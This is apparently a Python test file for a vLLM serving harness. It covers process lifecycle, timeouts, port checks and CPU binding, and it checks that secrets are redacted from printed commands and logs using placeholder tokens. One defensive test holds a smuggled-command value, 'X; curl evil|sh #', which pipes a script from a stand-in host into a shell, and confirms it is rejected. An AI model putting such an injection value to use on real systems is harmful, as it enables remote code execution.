"""The launch lifecycle with real child processes: a server that dies is a load failure at once
(never a wait for the timeout), a hung one times out, a busy port is refused before spawning, and
teardown removes the whole process group."""

import socket
import sys
import time

import psutil
import pytest

from servematrix.serve.server import LaunchSpec, LocalServer, ServerFailed, build_spec, cpu_bind, omp_bind


def spec(tmp_path, code, timeout=30.0, port=None):
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        free = s.getsockname()[1]
    return LaunchSpec(argv=[sys.executable, "-c", code], port=port or free,
                      log_path=tmp_path / "server.log", startup_timeout=timeout)


def test_a_server_that_dies_is_a_load_failure_within_a_second_not_at_the_timeout(tmp_path):
    code = "import sys, time; time.sleep(0.5); print(\"KeyError: 'layers.0.self_attn.qkv_proj.k_scale'\"); sys.exit(1)"
    t0 = time.monotonic()
    with pytest.raises(ServerFailed) as info:
        with LocalServer(spec(tmp_path, code, timeout=120)):
            pass
    assert time.monotonic() - t0 < 5
    assert info.value.failure.signature == "KeyError: 'layers.0.self_attn.qkv_proj.k_scale'"
    seconds = info.value.recorded["load"].seconds
    assert seconds is not None and seconds < 5


def test_a_hung_server_times_out_and_its_process_group_is_killed(tmp_path):
    sleeper = _sleeper(tmp_path)
    code = f"import subprocess, sys, time; subprocess.Popen([sys.executable, '-c', {sleeper!r}]); time.sleep(300)"
    server = LocalServer(spec(tmp_path, code, timeout=2))
    with pytest.raises(ServerFailed) as info:
        server.__enter__()
    assert info.value.failure.kind == "timeout" and info.value.failure.infra
    assert not psutil.pid_exists(server.pid) or psutil.Process(server.pid).status() == psutil.STATUS_ZOMBIE
    assert not _running(sleeper)


def test_a_busy_port_is_refused_before_spawning(tmp_path):
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        s.listen()
        port = s.getsockname()[1]
        server = LocalServer(spec(tmp_path, "print('never runs')", port=port))
        with pytest.raises(ServerFailed) as info:
            server.__enter__()
    assert info.value.failure.kind == "port-in-use" and info.value.failure.infra
    assert server.proc is None


def test_a_healthy_server_is_returned_and_torn_down_on_exit(tmp_path):
    code = ("import http.server, sys\n"
            "class H(http.server.BaseHTTPRequestHandler):\n"
            "    def do_GET(self):\n"
            "        self.send_response(200); self.end_headers()\n"
            "http.server.HTTPServer(('127.0.0.1', int(sys.argv[1])), H).serve_forever()\n")
    sp = spec(tmp_path, code)
    sp = sp.model_copy(update={"argv": [*sp.argv, str(sp.port)]})
    with LocalServer(sp) as server:
        assert server.alive() and server.healthy_at >= server.started_at
        pid = server.pid
    assert not psutil.pid_exists(pid) or psutil.Process(pid).status() == psutil.STATUS_ZOMBIE


def test_cpu_bind_splits_cores_evenly_between_ranks():
    assert cpu_bind(2, [0, 1]) == "0|1"
    assert cpu_bind(2, [0, 1, 2, 3]) == "0-1|2-3"
    assert cpu_bind(3, [0, 1]) == "0|1|0"  # oversubscribed round-robin


@pytest.mark.parametrize("allowed, one, two", [({0, 1}, "auto", "0|1"), ({1}, "1", "1|1"), ({0}, "0", "0|0")])
def test_one_rank_keeps_vllms_auto_binding_unless_the_process_is_confined_to_some_cores(monkeypatch, allowed, one,
                                                                                        two):
    # a runner pinned to one core (a CI stream's share) binds every rank inside it, never on the other's core
    monkeypatch.setattr("os.sched_getaffinity", lambda pid: allowed)
    monkeypatch.setattr("os.cpu_count", lambda: 2)
    assert (omp_bind(1), omp_bind(2)) == (one, two)


def test_server_command_carries_layout_quant_and_device_env():
    from pathlib import Path

    from servematrix.config.matrix import load_matrix

    root = Path(__file__).resolve().parents[3]
    m = load_matrix(root / "matrix" / "cpu-smoke.yaml")
    e = next(x for x in m.entries if x.tp == 2)
    s = build_spec(e, m.scenario(e.scenario), "/ckpt", 8000, Path("log"), "python")
    assert s.argv[:3] == ["python", "-m", "vllm.entrypoints.openai.api_server"]
    assert "--tensor-parallel-size 2 --pipeline-parallel-size 1" in " ".join(s.argv)
    assert "--dtype float32" in " ".join(s.argv)
    assert s.env["VLLM_CPU_KVCACHE_SPACE"] == "1" and "|" in s.env["VLLM_CPU_OMP_THREADS_BIND"]


# --- trust at the boundary: printed commands and the server log hold no secret ------------------
SECRET_ARGV = ["--api-key", "sk-argv-31415926", "Kq7", "--hf-token=hf_flag_2718"]
SECRET_ENV = {"HF_TOKEN": "hf_env_16180339", "SVC_PASSWORD": "pW4", "MIRROR_URL": "https://ci:mirrorPw9@mirror.test/s",
              "NOTE": "two words; $(echo x)"}
SECRETS = ["sk-argv-31415926", "Kq7", "hf_flag_2718", "hf_env_16180339", "pW4", "mirrorPw9"]


@pytest.fixture
def forget_secrets():
    from servematrix import redact

    redact.forget()
    yield
    redact.forget()


def test_shell_masks_secrets_of_argv_and_env_and_quotes_every_word(tmp_path, forget_secrets):
    import shlex

    s = LaunchSpec(argv=["python", "-m", "vllm.entrypoints.openai.api_server", "--model", "/m o", *SECRET_ARGV],
                   env=SECRET_ENV, port=8000, log_path=tmp_path / "log", startup_timeout=1)
    line = s.shell()
    assert not [x for x in SECRETS if x in line], line
    words = shlex.split(line)
    assert words[:4] == ["HF_TOKEN=***", "MIRROR_URL=https://ci:***@mirror.test/s", "NOTE=two words; $(echo x)",
                         "SVC_PASSWORD=***"]
    assert words[4:] == ["python", "-m", "vllm.entrypoints.openai.api_server", "--model", "/m o",
                         "--api-key", "***", "***", "--hf-token=***"]
    assert "'***'" in line  # quoted: pasted, a bare *** would be a glob


def test_shell_refuses_an_environment_name_that_is_not_a_variable_name(tmp_path):
    from servematrix.errors import ConfigError

    s = LaunchSpec(argv=["python"], env={"X; curl evil|sh #": "1"}, port=1, log_path=tmp_path / "l", startup_timeout=1)
    with pytest.raises(ConfigError, match="not a valid variable name"):
        s.shell()


def test_what_the_server_prints_reaches_its_log_redacted_and_whole_before_the_verdict(tmp_path, forget_secrets):
    """A real child prints its argv (as vLLM logs its non-default args, api_key included) and its
    environment, then dies on a last line without a newline: the log holds none of the secrets,
    and the failure signature is that last line, masked."""
    code = ("import os, sys\n"
            "print('non-default args:', sys.argv[1:], flush=True)\n"
            "print('env', os.environ['HF_TOKEN'], os.environ['SVC_PASSWORD'], os.environ['MIRROR_URL'], flush=True)\n"
            "sys.stderr.write('RuntimeError: bad key ' + sys.argv[2]); sys.exit(1)")
    sp = spec(tmp_path, code)
    sp = LaunchSpec(argv=[*sp.argv, *SECRET_ARGV], env=SECRET_ENV, port=sp.port, log_path=sp.log_path,
                    startup_timeout=30)
    with pytest.raises(ServerFailed) as info:
        with LocalServer(sp):
            pass
    log = sp.log_path.read_text()
    assert not [x for x in SECRETS if x in log], log
    assert log.startswith("# servematrix: HF_TOKEN=") and "'--api-key', '***', '***', '--hf-token=***'" in log
    assert "env *** *** https://ci:***@mirror.test/s" in log
    assert info.value.failure.signature == "RuntimeError: bad key ***"


def test_a_grandchild_holding_the_log_pipe_delays_neither_the_verdict_nor_teardown(tmp_path):
    sleeper = _sleeper(tmp_path)
    code = ("import subprocess, sys\n"
            f"subprocess.Popen([sys.executable, '-c', {sleeper!r}])\n"
            "print('RuntimeError: died, child left', flush=True); sys.exit(1)")
    t0 = time.monotonic()
    with pytest.raises(ServerFailed) as info:
        with LocalServer(spec(tmp_path, code, timeout=120)):
            pass
    assert info.value.failure.signature == "RuntimeError: died, child left"
    assert info.value.recorded["load"].seconds < 3 and time.monotonic() - t0 < 5
    assert not _running(sleeper)


def _sleeper(tmp_path) -> str:
    """A grandchild's code, named after the test's own directory: other tests' sleepers, running in the
    other pytest-xdist worker at the same time, are not this test's leftovers."""
    return f"import time; time.sleep(300)  # {tmp_path}"


def _running(code: str) -> list:
    return [p for p in psutil.process_iter(["cmdline"]) if code in " ".join(p.info["cmdline"] or [])]
